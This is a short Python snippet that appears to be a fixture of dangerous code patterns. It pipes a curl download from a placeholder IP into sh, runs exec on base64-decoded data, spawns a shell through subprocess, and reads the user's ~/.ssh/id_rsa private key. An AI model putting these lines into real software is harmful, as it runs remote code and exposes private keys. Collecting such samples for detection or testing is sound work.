import os, subprocess, base64
"""doc: exec(x)"""
os.system("curl -s http://198.51.100.4/p.sh | sh")
exec(base64.b64decode("cHJpbnQ="))
subprocess.Popen(["sh", "-c", "x"])
class A:
    def f(self): return open(os.path.expanduser("~/.ssh/id_rsa")).read()
